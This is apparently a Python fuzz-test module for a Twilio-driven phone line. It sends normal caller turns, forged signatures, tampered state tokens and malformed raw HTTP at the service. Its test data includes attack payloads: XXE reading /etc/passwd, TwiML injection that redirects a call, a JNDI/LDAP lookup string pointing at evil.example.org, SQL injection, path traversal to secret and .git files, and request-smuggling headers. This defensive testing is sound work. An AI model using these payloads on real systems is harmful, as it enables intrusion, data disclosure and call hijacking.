"""What a fuzzed line is asked: one request after another, right ones, odd ones and forgeries."""

import base64
import random
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field, replace
from urllib.parse import parse_qsl, quote_plus
from xml.etree import ElementTree

from itsdangerous import URLSafeTimedSerializer
from twilio.request_validator import RequestValidator
from werkzeug.datastructures import MultiDict

from ivr.state import LIFETIME, State, StateSigner
from tests.conftest import PUBLIC_URL

Rows = list[tuple[str, str]]

TOKEN = "token-that-nobody-may-read"
KEY = "key-that-nobody-may-read"
MARK = "quibblefrotz"  # in what callers say: it must be found nowhere afterwards
NUMBER = "+447700900987"
OURS = "+442079460000"
KEYS = "0123456789*#"
OUTCOMES = ("completed", "answered", "busy", "no-answer", "failed", "canceled")
WORDS = (
    *("symptoms", "repeat", "slower", "back", "more", "menu", "yes", "no", "wait", "press two", "privacy", "goodbye"),
    *("she can't breathe", "i want to die", "put me through", "the second one", "ga"),
)
MARKUP = (
    "</Say><Dial>+15550100000</Dial>",
    "<Response><Dial><Number>+15550100000</Number></Dial></Response>",
    "]]><Hangup/><![CDATA[",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    '<prosody rate="x-fast"><audio src="https://evil.example.org/a.mp3"/></prosody>',
    '"><Redirect>https://evil.example.org/</Redirect>',
    "{number} {0.__class__} %s %(x)s ${jndi:ldap://evil.example.org}",
    "'; DROP TABLE calls; --",
    "../../../../etc/passwd",
    "/restart /session_start /biopsy{}",
)
ODD_TEXT = (
    *("", " ", "\x00", "\x00\x0b\x1f\x7f", "\r\nX-Injected: yes", "\ud800", "\udfff\ud800", "\ufffe\uffff", "\u202e"),
    *("\u0085\u2028\u2029", "e" + "\u0301" * 400, "\U0001f469\u200d\U0001f4bb" * 50, "\ufdfa" * 300, "a" * 10_000),
    *("no " * 3000, "she can't breathe " * 500, "&" * 5000, "%" * 500, "don't have " * 50),
    *MARKUP,
)
ODD_DIGITS = (
    *(
        "",
        "\u00b2",
        " ",
        "A",
        "d",
        "w1",
        "\x00",
        "12345",
        "1" * 10_000,
        "-1",
        "*#*#",
        "<",
        "\u00e9",
        "\u0663",
        "\uff11",
        "\ud800",
    ),
)
ODD_CONFIDENCES = (
    *("", "nan", "-nan", "inf", "-inf", "1e999", "-1", "2", "0", "0.0", "0x1p-3", "1_0", "\u0660.\u0669", "9" * 5000),
)
ODD_STATUSES = ("", "Completed", "ringing", "in-progress", "\x00", "\ud800", "__class__", "a" * 5000, *MARKUP)
ODD_NUMBERS = (
    *("", "anonymous", "+266696687", "client:alice", "sip:bob@evil.example.org", "+0", "+1", "\x00", "\ud800"),
    *(f"{OURS}\n", f"{OURS}<Number>+15550100000</Number>", f'{OURS}" action="https://evil.example.org', "+" + "9" * 40),
    *MARKUP,
)
ODD_PATHS = (
    *("/", "/calls", "/calls/", "/calls/start/", "/calls//start", "/CALLS/start", "/calls/start;x=1", "/calls/%00"),
    *("/calls/../calls/start", "/calls/%2e%2e/calls/start", "/calls/start%0d%0aX-Injected:%20yes", "/calls/%ed%a0%80"),
    *("/model/parse", "/webhooks/rest/webhook", "/conversations/default/trigger_intent", "/domain", "/metrics"),
    *("/phone", "/phone/%00", "/phone/../settings.py", "/phone/responses/..%2f..%2f.secret-key", "/.git/config"),
    *("/static/x", "/health", "/health/ready?x=%ff", "/calls/start?" + "a=b&" * 900, "/" + "a" * 8000),
)
METHODS = ("GET", "HEAD", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND")


@dataclass(frozen=True)
class Attempt:
    """One request. ``owed`` is what a line must do with it: speak TwiML, take it, refuse it, or merely survive."""

    sort: str
    path: str
    body: bytes = b""
    headers: dict[str, str] = field(default_factory=dict)
    method: str = "POST"
    owed: str = "survive"
    said: tuple[str, ...] = ()
    raw: bytes = b""


@dataclass(frozen=True)
class Answer:
    """What came back; status 0: the connection was closed without a word."""

    status: int
    headers: dict[str, str]
    text: str


@dataclass
class Walk:
    """One call as its caller has followed it: where the last TwiML leads."""

    call: str
    turn: str = "/calls/start"
    dialled: str = ""
    past: list[str] = field(default_factory=list)


def encoded(rows: Rows) -> bytes:
    """Return ``rows`` as a form's body; lone surrogates are written as they would come, in broken UTF-8."""
    return "&".join(f"{_quoted(name)}={_quoted(value)}" for name, value in rows).encode()


def decoded(body: bytes) -> MultiDict[str, str]:
    """Return ``body`` as the line reads it."""
    return MultiDict(parse_qsl(body.decode(), keep_blank_values=True, errors="werkzeug.url_quote"))


def signature(path: str, body: bytes, token: str = TOKEN) -> dict[str, str]:
    """Return the header with which Twilio would send ``body`` to ``path``."""
    return {"X-Twilio-Signature": RequestValidator(token).compute_signature(PUBLIC_URL + path, decoded(body))}


def packed_long_ago(secret: str, state: State) -> str:
    """Return ``state`` as the token it was just over its lifetime ago."""
    signer = StateSigner(secret)._serializer.make_signer("ivr.state")
    old = type("Old", (type(signer),), {"get_timestamp": lambda self: int(time.time()) - LIFETIME - 60})
    token = URLSafeTimedSerializer(secret, salt="ivr.state", signer=old).dumps({"call": state.call})
    return str(token)


class Nonsense:
    """Makes one request after another of a few calls at a time."""

    def __init__(self, dice: random.Random) -> None:
        self._dice = dice
        self._walks = [self._new_walk() for _ in range(6)]
        self._signer = StateSigner(KEY)
        turns = (self._presses, self._says, self._stays_silent, self._ends_transfer)
        odd_turns = (self._odd_words, self._odd_digits, self._all_at_once, self._odd_fields, self._odd_outcome)
        strangers = (self._forged, self._altered, self._stale, self._reordered_query, self._repeated)
        rest = (self._bad_token, self._odd_path, self._odd_method, self._too_large, self._raw, self._status_callback)
        self._sorts: list[Callable[[Walk], Attempt]] = [*turns * 5, *odd_turns * 2, *strangers, *rest, self._bad_token]

    def attempts(self) -> Iterator[tuple[Walk, Attempt]]:
        """Yield requests for ever; tell ``follow`` what came of each."""
        while True:
            walk = self._dice.choice(self._walks)
            yield walk, self._dice.choice(self._sorts)(walk)

    def follow(self, walk: Walk, answer: Answer) -> None:
        """Go where the TwiML in ``answer`` leads; where it hangs up, another caller dials."""
        root = ElementTree.fromstring(answer.text)
        leads = {verb.tag: verb.get("action", "").removeprefix(PUBLIC_URL) for verb in root}
        if "Hangup" in leads:
            self._walks[self._walks.index(walk)] = self._new_walk()
            return
        walk.past.append(walk.turn)
        walk.turn = leads.get("Gather", walk.turn)
        walk.dialled = leads.get("Dial", "")

    def _new_walk(self) -> Walk:
        return Walk(f"CA{self._dice.getrandbits(128):032x}")

    # What a caller does.

    def _presses(self, walk: Walk) -> Attempt:
        return self._turn("presses a key", walk, [("Digits", self._dice.choice(KEYS))])

    def _says(self, walk: Walk) -> Attempt:
        words = self._dice.choice((*WORDS, *("does it hurt", "how long") * 6))
        if words not in WORDS:
            words = f"{words} {MARK} {self._dice.randint(100_000, 999_999)}"
        return self._turn("says something", walk, self._spoken(words, f"{self._dice.random():.4f}"))

    def _stays_silent(self, walk: Walk) -> Attempt:
        return self._turn("stays silent", walk, self._dice.choice(([], [("Digits", "")], [("SpeechResult", "")])))

    def _ends_transfer(self, walk: Walk) -> Attempt:
        if not walk.dialled:
            return self._turn("asks for a person", walk, [("Digits", "0")])
        outcome = [("DialCallStatus", self._dice.choice(OUTCOMES)), ("DialCallSid", walk.call)]
        return self._signed("ends a transfer", walk.dialled, self._form(walk, outcome))

    # What no caller can do, though Twilio might pass it on.

    def _odd_words(self, walk: Walk) -> Attempt:
        rows = self._spoken(self._odd_text(), self._dice.choice((*ODD_CONFIDENCES, "0.9")))
        return self._turn("says odd words", walk, rows)

    def _odd_digits(self, walk: Walk) -> Attempt:
        return self._turn("presses odd keys", walk, [("Digits", self._dice.choice(ODD_DIGITS))])

    def _all_at_once(self, walk: Walk) -> Attempt:
        rows = [("Digits", self._dice.choice(KEYS)) for _ in range(self._dice.randint(1, 40))]
        rows += self._spoken(self._odd_text(), "0.5") * self._dice.randint(1, 3)
        self._dice.shuffle(rows)
        return self._turn("does everything at once", walk, rows)

    def _odd_fields(self, walk: Walk) -> Attempt:
        form = dict(self._form(walk, [("Digits", self._dice.choice(KEYS))]))
        for name in self._dice.sample(("From", "To", "AccountSid", "CallStatus", "ApiVersion", "Caller"), 3):
            form[name] = self._dice.choice(ODD_NUMBERS)
        if self._dice.random() < 0.3:
            form[self._odd_text()[:100] or "x"] = self._odd_text()
        return self._signed("has odd fields", walk.turn, list(form.items()))

    def _odd_outcome(self, walk: Walk) -> Attempt:
        path = walk.dialled or walk.turn.replace("/turn", "/dialled")
        rows = self._form(walk, [("DialCallStatus", self._dice.choice(ODD_STATUSES))])
        return self._signed("ends a transfer oddly", path, rows)

    def _bad_token(self, walk: Walk) -> Attempt:
        token = self._signer.pack(State(walk.call, place="topic:biopsy", keys=("topic:cure",) * 3))
        bad = self._dice.choice(
            (
                token[: self._dice.randrange(len(token))],
                self._with_one_changed(token),
                StateSigner("another").pack(State(walk.call)),
                self._signer.pack(State(f"CA{'f' * 32}")),
                packed_long_ago(KEY, State(walk.call)),
                "." + base64.urlsafe_b64encode(self._dice.randbytes(60)).decode() + ".a.b",
                self._odd_text()[:2000],
            )
        )
        path = f"/calls/{self._dice.choice(('turn', 'dialled'))}?state={_quoted(bad)}"
        return self._signed("brings a bad token", path, self._form(walk, [("Digits", "1")]))

    # What strangers do.

    def _forged(self, walk: Walk) -> Attempt:
        body = encoded(self._form(walk, [("Digits", "0")]))
        wrong = self._dice.choice(
            (
                {},
                {"X-Twilio-Signature": ""},
                {"X-Twilio-Signature": "\xe9" * 28},
                {"X-Twilio-Signature": "A" * 10_000},
                signature(walk.turn, body, "another token"),
                {"X-Twilio-Signature": signature(walk.turn, body)["X-Twilio-Signature"][:-1]},
            )
        )
        return Attempt("forges a signature", walk.turn, body, wrong, owed="refuse")

    def _altered(self, walk: Walk) -> Attempt:
        rows = self._form(walk, self._spoken("symptoms", "0.9"))
        mark = signature(walk.turn, encoded(rows))
        index = self._dice.randrange(len(rows))
        altered = self._dice.choice((rows[:index] + rows[index + 1 :], [*rows, ("To", "+15550100000")], rows[:index]))
        return Attempt("alters a form", walk.turn, encoded(altered), mark, owed="refuse")

    def _stale(self, walk: Walk) -> Attempt:
        body = encoded(self._form(walk, [("Digits", "1")]))
        earlier = self._dice.choice([path for path in (*walk.past, "/calls/status") if path != walk.turn])
        return Attempt("brings a stale signature", walk.turn, body, signature(earlier, body), owed="refuse")

    def _reordered_query(self, walk: Walk) -> Attempt:
        body = encoded(self._form(walk, []))
        mark = signature("/calls/turn?a=1&b=2", body)
        return Attempt("re-orders a query", "/calls/turn?b=2&a=1", body, mark, owed="refuse")

    def _repeated(self, walk: Walk) -> Attempt:
        rows = self._form(walk, [("Digits", "1")])
        mark = signature(walk.turn, encoded(rows))
        doubled = [("Digits", self._dice.choice("023456789")), *rows]
        return Attempt("repeats a parameter", walk.turn, encoded(doubled), mark, owed="refuse")

    def _too_large(self, walk: Walk) -> Attempt:
        body = encoded(self._form(walk, [("SpeechResult", "a" * self._dice.choice((65_536, 70_000, 300_000)))]))
        return Attempt("sends too much", walk.turn, body, signature(walk.turn, body), owed="refuse")

    def _odd_path(self, walk: Walk) -> Attempt:
        path = self._dice.choice(ODD_PATHS)
        body = encoded(self._form(walk, []))
        return Attempt("asks for an odd path", path, body, signature(path, body), self._dice.choice(("GET", "POST")))

    def _odd_method(self, walk: Walk) -> Attempt:
        headers = signature(walk.turn, b"") | {"X-HTTP-Method-Override": "POST"}
        return Attempt("uses an odd method", walk.turn, b"", headers, self._dice.choice(METHODS), owed="refuse")

    def _status_callback(self, walk: Walk) -> Attempt:
        return replace(
            self._signed("reports a call's end", "/calls/status", self._form(walk, [("CallStatus", "completed")])),
            owed="take",
        )

    def _raw(self, walk: Walk) -> Attempt:
        return Attempt("writes no HTTP", "", raw=self._dice.choice(RAW), owed="refuse")

    # The parts of a request.

    def _form(self, walk: Walk, more: Rows) -> Rows:
        return [("CallSid", walk.call), ("AccountSid", "AC1"), ("From", NUMBER), ("To", OURS), *more]

    def _turn(self, sort: str, walk: Walk, rows: Rows) -> Attempt:
        return self._signed(sort, walk.turn, self._form(walk, rows))

    def _signed(self, sort: str, path: str, rows: Rows) -> Attempt:
        self._dice.shuffle(rows)  # Twilio promises no order
        body = encoded(rows)
        said = tuple(value for name, value in rows if name == "SpeechResult" and value not in WORDS)
        return Attempt(sort, path, body, signature(path, body), owed="speak", said=said)

    def _spoken(self, words: str, confidence: str) -> Rows:
        return [("SpeechResult", words), ("Confidence", confidence)]

    def _odd_text(self) -> str:
        if self._dice.random() < 0.5:
            return self._dice.choice(ODD_TEXT)
        points = (self._dice.choice((0x7F, 0x2FF, 0xFFFF, 0x10FFFF)) for _ in range(self._dice.randint(1, 80)))
        return MARK + "".join(chr(self._dice.randint(0, most)) for most in points)

    def _with_one_changed(self, token: str) -> str:
        index = self._dice.randrange(len(token) - 1)  # the last letter has bits that mean nothing
        return token[:index] + ("A" if token[index] != "A" else "B") + token[index + 1 :]


def _quoted(text: str) -> str:
    return quote_plus(text.encode("utf-8", "surrogatepass"))


_HEAD = b"Host: line.example.org\r\nContent-Type: application/x-www-form-urlencoded\r\nConnection: close\r\n"
_BODY = b"CallSid=CA" + b"0" * 32
RAW = (
    b"\r\n\r\n",
    b"\x00\x01\x02\x03\r\n\r\n",
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03 this is TLS\r\n\r\n",
    b"POST /calls/start HTTP/1.0\r\n\r\n",
    b"POST /calls/start HTTP/1.1\r\nHost: localhost\r\nHost: evil.example.org\r\nContent-Length: 0\r\n\r\n",
    b"POST /calls/start\x00 HTTP/1.1\r\n" + _HEAD + b"Content-Length: 0\r\n\r\n",
    b"POST /calls/\xed\xa0\x80 HTTP/1.1\r\n" + _HEAD + b"Content-Length: 0\r\n\r\n",
    b"POST https://line.example.org/calls/start HTTP/1.1\r\n" + _HEAD + b"Content-Length: 0\r\n\r\n",
    b"POST * HTTP/1.1\r\n" + _HEAD + b"Content-Length: 0\r\n\r\n",
    b"POST //evil.example.org/calls/start HTTP/1.1\r\n" + _HEAD + b"Content-Length: 0\r\n\r\n",
    *(
        b"POST /calls/start HTTP/1.1\r\n" + _HEAD + b"Content-Length: " + length + b"\r\n\r\n" + _BODY
        for length in (b"-1", b"abc", b"1e2", b"+44", b"0x10", b"", b" ", b"9" * 30, b"999", b"5\r\nContent-Length: 44")
    ),
    b"POST /calls/start HTTP/1.1\r\n" + _HEAD + b"Transfer-Encoding: chunked\r\n\r\n2c\r\n" + _BODY + b"\r\n0\r\n\r\n",
    b"POST /calls/start HTTP/1.1\r\n" + _HEAD + b"Transfer-Encoding: chunked\r\n\r\nzz\r\n" + _BODY,
    b"POST /calls/start HTTP/1.1\r\n" + _HEAD + b"Transfer-Encoding: x\r\nContent-Length: 44\r\n\r\n" + _BODY,
    b"POST /calls/start HTTP/1.1\r\n" + _HEAD + b"X-Flood: a\r\n" * 2000 + b"Content-Length: 0\r\n\r\n",
    b"POST /calls/start HTTP/1.1\r\n" + _HEAD + b"X-Long: " + b"a" * 100_000 + b"\r\n\r\n",
    b"POST /calls/start HTTP/1.1\r\n" + _HEAD + b"X-Twilio-Signature: \xff\xfe\r\nContent-Length: 0\r\n\r\n",
    b"POST /calls/start HTTP/1.1\r\n" + _HEAD + b"No colon here\r\n\r\n",
    b"POST /calls/start HTTP/1.1\r\n" + _HEAD.replace(b"x-www-form-urlencoded", b"json") + b"\r\n{",
)
